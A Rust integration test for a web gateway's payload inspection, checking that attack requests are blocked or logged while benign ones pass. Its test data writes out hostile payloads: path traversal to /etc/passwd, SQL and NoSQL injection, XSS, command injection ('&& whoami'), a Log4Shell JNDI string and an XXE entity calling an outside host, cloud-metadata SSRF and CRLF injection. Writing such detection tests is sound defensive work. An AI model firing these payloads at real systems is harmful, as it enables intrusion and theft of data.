//! Payload inspection, end to end: the real `gateway` binary in front of a real upstream on
//! 127.0.0.1. A route in block mode answers attacks with 403 `blocked`; a route in log mode
//! forwards them and notes them in the audit log; benign requests pass both; findings are
//! counted in `gateway_inspection_findings_total`.

use std::time::Duration;

use bytes::Bytes;
use http_body_util::Full;
use hyper::Request;
use integration_tests::{
    harness::{Daemon, Setup},
    web::{self, eventually, free_port, get, http1, send, Reply, Upstream},
};

fn post(url: &str, content_type: &str, body: &str) -> Request<Full<Bytes>> {
    Request::post(url)
        .header("host", "app.test")
        .header("content-type", content_type)
        .body(Full::new(Bytes::from(body.to_string())))
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_are_blocked_or_logged_and_benign_requests_pass() {
    let up = Upstream::start("up").await;
    let port = free_port();
    let setup = Setup::new();
    let rest = format!(
        r#"
[inspect]
mode = "block"

[upstreams.up]
targets = ["{}"]

[[routes]]
name = "watched"
path_prefix = "/watched"
upstream = "up"

[routes.inspect]
mode = "log"

[[routes]]
name = "lenient"
path_prefix = "/lenient"
upstream = "up"

[routes.inspect]
mode = "block"
disable = ["sqli", "xss-001"]

[[routes]]
name = "guarded"
path_prefix = "/"
upstream = "up"
"#,
        up.addr
    );
    let config = web::write_config(&setup, port, "", &rest);
    let metrics = web::with_metrics(&config);
    let _daemon = Daemon::start_local(&setup, &config);
    let client = http1();
    let url = |path: &str| format!("http://127.0.0.1:{port}{path}");
    let at = |path: &str, headers: &[(&str, &str)]| get(&url(path), "app.test", headers);

    // Benign requests that look a little like attacks pass the blocking route.
    let benign = [
        at("/api/plans?choice=select+a+plan&name=O%27Brien", &[]),
        at(
            "/api/search?q=union+station&sum=1+%2B+1+%3D+2&ui=drop-down",
            &[],
        ),
        at("/static/js/script.js", &[]),
        at("/files/a/b/c/report.final.v2.pdf", &[]),
        at(
            "/api/users?email=bob%2Btag%40example.com&company=AT%26T&msg=I+%3C3+cats",
            &[
                (
                    "user-agent",
                    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
                ),
                ("referer", "https://app.test/home?tab=all&sort=-date"),
                ("cookie", "theme=dark; _ga=GA1.2.12345.67890"),
                ("authorization", "Bearer ' or 1=1-- <script>"),
            ],
        ),
        post(
            &url("/api/profile"),
            "application/json",
            r#"{"name":"Miles O'Brien","bio":"I like \"quotes\" and it's fine; or not.","id":"123e4567-e89b-12d3-a456-426614174000","at":"2024-05-01T12:30:00Z","avatar":"aGVsbG8/d29ybGQ+Zm9v"}"#,
        ),
        post(
            &url("/api/contact"),
            "application/x-www-form-urlencoded",
            "name=Tom+%26+Jerry&note=this+or+that+and+more&plan=select+a+plan",
        ),
        // A form with a text field and a binary file whose bytes look like anything.
        post(
            &url("/api/upload"),
            "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
            "------WebKitFormBoundary7MA4YWxkTrZu0gW\r\n\
             Content-Disposition: form-data; name=\"title\"\r\n\r\nMiles O'Brien; the cat & co\r\n\
             ------WebKitFormBoundary7MA4YWxkTrZu0gW\r\n\
             Content-Disposition: form-data; name=\"file\"; filename=\"photo.jpg\"\r\n\
             Content-Type: image/jpeg\r\n\r\n\u{ff}\u{d8}\0\0<script>../..\0\r\n\
             ------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n",
        ),
    ];
    let served = up.served();
    for req in benign {
        let uri = req.uri().clone();
        let r = send(&client, req).await;
        assert_eq!(r.status, 200, "{uri}: {:?}", r.json);
    }
    assert_eq!(up.served(), served + 8);

    // Attacks in each part are refused by the blocking route, and never reach the upstream.
    let blocked = |r: &Reply, what: &str| {
        assert_eq!(r.status, 403, "{what}: {:?}", r.json);
        assert_eq!(r.json["error"], "blocked", "{what}: {:?}", r.json);
        assert!(r.json["request_id"].is_string(), "{what}: {:?}", r.json);
    };
    let attacks = [
        (
            "path",
            at("/static/..%252f..%252fetc/passwd", &[]),
            "a-path",
        ),
        (
            "query",
            at(
                "/api/items?id=1%27%20OR%20%271%27%3D%271",
                &[("x-request-id", "a-query")],
            ),
            "a-query",
        ),
        (
            "header",
            at(
                "/api/items",
                &[
                    ("x-request-id", "a-header"),
                    ("x-forwarded-host", "x\"><svg/onload=alert(1)>"),
                ],
            ),
            "a-header",
        ),
        (
            "cookie",
            at(
                "/api/items",
                &[
                    ("x-request-id", "a-cookie"),
                    ("cookie", "a=1; pref=%3Bcat%20%2Fapp%2Fconf"),
                ],
            ),
            "a-cookie",
        ),
        (
            "overlong",
            at(
                "/static/%c0%ae%c0%ae%c0%afsecret",
                &[("x-request-id", "a-overlong")],
            ),
            "a-overlong",
        ),
        (
            "null",
            at(
                "/download?file=report.pdf%2500.sh",
                &[("x-request-id", "a-null")],
            ),
            "a-null",
        ),
        (
            "log4shell",
            at(
                "/api/items",
                &[("user-agent", "${${lower:j}ndi:ldap://198.18.0.1/a}")],
            ),
            "a-jndi",
        ),
        (
            "template",
            at("/api/greet?name=%7B%7B7*7%7D%7D", &[]),
            "a-ssti",
        ),
        (
            "nosql",
            at("/api/login?user=admin&pass%5B%24ne%5D=x", &[]),
            "a-nosql",
        ),
        (
            "metadata",
            at(
                "/api/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
                &[],
            ),
            "a-ssrf",
        ),
        (
            "response splitting",
            at(
                "/api/redirect?to=%2Fhome%0d%0aSet-Cookie%3A%20admin%3D1",
                &[],
            ),
            "a-crlf",
        ),
    ];
    let served = up.served();
    for (what, mut req, id) in attacks {
        req.headers_mut()
            .insert("x-request-id", id.parse().unwrap());
        let r = send(&client, req).await;
        blocked(&r, what);
    }
    let mut form = post(
        &url("/api/contact"),
        "application/x-www-form-urlencoded",
        "name=x&msg=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B",
    );
    form.headers_mut()
        .insert("x-request-id", "a-form".parse().unwrap());
    blocked(&send(&client, form).await, "form body");
    let mut json = post(
        &url("/api/run"),
        "application/json",
        r#"{"host":"127.0.0.1","opts":"\u0026\u0026 whoami"}"#,
    );
    json.headers_mut()
        .insert("x-request-id", "a-json".parse().unwrap());
    blocked(&send(&client, json).await, "json body");
    let mut xml = post(
        &url("/api/import"),
        "application/xml",
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"http://198.18.0.1/x\">]><r>&x;</r>",
    );
    xml.headers_mut()
        .insert("x-request-id", "a-xxe".parse().unwrap());
    blocked(&send(&client, xml).await, "xml body");
    // A file name in a multipart body, and a body that arrives gzipped.
    let mut multipart = post(
        &url("/api/upload"),
        "multipart/form-data; boundary=XyZ",
        "--XyZ\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"..%2f..%2fapp.conf\"\r\n\
         Content-Type: application/octet-stream\r\n\r\nbinary\0data\r\n--XyZ--\r\n",
    );
    multipart
        .headers_mut()
        .insert("x-request-id", "a-multipart".parse().unwrap());
    blocked(&send(&client, multipart).await, "multipart file name");
    let gzipped = |json: &str| {
        use std::io::Write as _;
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(json.as_bytes()).unwrap();
        e.finish().unwrap()
    };
    let encoded = |id: &str, coding: &str, body: Vec<u8>| {
        Request::post(url("/api/run"))
            .header("host", "app.test")
            .header("content-type", "application/json")
            .header("content-encoding", coding)
            .header("x-request-id", id)
            .body(Full::new(Bytes::from(body)))
            .unwrap()
    };
    let r = send(
        &client,
        encoded("a-gzip", "gzip", gzipped(r#"{"id":"1' OR '1'='1"}"#)),
    )
    .await;
    blocked(&r, "gzip body");
    let r = send(&client, encoded("a-br", "br", gzipped(r#"{"id":"1"}"#))).await;
    blocked(&r, "unreadable coding");
    assert_eq!(
        up.served(),
        served,
        "a blocked request reached the upstream"
    );

    // A route in log mode forwards the attack, and the audit line notes it.
    let r = send(
        &client,
        at(
            "/watched/q?id=1%20UNION%20SELECT%20password%20FROM%20users",
            &[("x-request-id", "w-1")],
        ),
    )
    .await;
    assert_eq!(r.status, 200, "{:?}", r.json);
    assert_eq!(up.served(), served + 1);

    // A route that turns rules off lets those through, and only those.
    let r = send(
        &client,
        at("/lenient?q=%27%20or%201%3D1--&s=%3Cscript%3E", &[]),
    )
    .await;
    assert_eq!(r.status, 200, "{:?}", r.json);
    let r = send(&client, at("/lenient?q=..%2F..%2Fsecret", &[])).await;
    assert_eq!(r.status, 403, "{:?}", r.json);

    assert!(
        eventually(Duration::from_secs(5), || {
            let lines = web::audit_lines(&setup);
            ["a-json", "a-xxe", "a-br", "w-1"]
                .iter()
                .all(|id| lines.iter().any(|l| l["request_id"] == *id))
        })
        .await,
        "audit lines missing: {:?}",
        web::audit_lines(&setup)
    );
    let lines = web::audit_lines(&setup);
    let line = |id: &str| {
        lines
            .iter()
            .find(|l| l["request_id"] == id)
            .unwrap_or_else(|| panic!("no audit line for {id}"))
            .clone()
    };
    for (id, rule) in [
        ("a-path", "inspect:trav-001"),
        ("a-query", "inspect:sqli-001"),
        ("a-header", "inspect:xss-002"),
        ("a-cookie", "inspect:cmdi-001"),
        ("a-overlong", "inspect:trav-001"),
        ("a-null", "inspect:null-001"),
        ("a-form", "inspect:xss-001"),
        ("a-json", "inspect:cmdi-001"),
        ("a-multipart", "inspect:trav-001"),
        ("a-gzip", "inspect:sqli-001"),
        ("a-br", "inspect:limit-002"),
        ("a-jndi", "inspect:rce-001"),
        ("a-ssti", "inspect:ssti-001"),
        ("a-nosql", "inspect:nosqli-001"),
        ("a-ssrf", "inspect:ssrf-001"),
        ("a-crlf", "inspect:crlf-001"),
        ("a-xxe", "inspect:xxe-001"),
    ] {
        let l = line(id);
        assert_eq!(l["status"], 403, "{l}");
        assert_eq!(l["decision"], "deny", "{l}");
        assert_eq!(l["rule"], rule, "{l}");
        assert_eq!(l["route"], "guarded", "{l}");
    }
    // The header's value is not repeated in the audit line.
    assert!(!line("a-header").to_string().contains("onload"));
    let w = line("w-1");
    assert_eq!(w["status"], 200, "{w}");
    assert_eq!(w["decision"], "log", "{w}");
    assert!(
        w["rule"].as_str().unwrap().starts_with("inspect:sqli-003"),
        "{w}"
    );

    let series = |class: &str, mode: &str, route: &str| {
        format!(
            "gateway_inspection_findings_total{{class=\"{class}\",mode=\"{mode}\",route=\"{route}\"}}"
        )
    };
    let (ok, m) = web::scrape_until(
        metrics,
        &[
            (&series("sqli", "block", "guarded"), 2.0),
            (&series("traversal", "block", "guarded"), 3.0),
            (&series("limit", "block", "guarded"), 1.0),
            (&series("xss", "block", "guarded"), 2.0),
            (&series("cmdi", "block", "guarded"), 2.0),
            (&series("null-byte", "block", "guarded"), 1.0),
            (&series("sqli", "log", "watched"), 1.0),
            (&series("traversal", "block", "lenient"), 1.0),
        ],
    )
    .await;
    assert!(ok, "{m}");
}
